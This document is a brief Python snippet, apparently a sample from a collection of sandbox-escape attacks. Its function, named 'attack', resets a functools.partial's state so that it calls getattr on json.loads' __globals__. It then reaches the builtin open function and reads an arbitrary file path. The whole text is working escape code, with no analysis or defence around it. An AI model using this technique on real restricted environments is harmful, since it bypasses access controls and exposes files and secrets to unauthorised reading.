# A partial has a dict of attributes, and can be given another state.
# after: read
# source: own
import json
from functools import partial
def attack(path, **_):
    p = partial(int)
    p.__setstate__((getattr, (json.loads, "__globals__"), {}, {}))
    return {"text": p()["__builtins__"]["open"](path).read()}
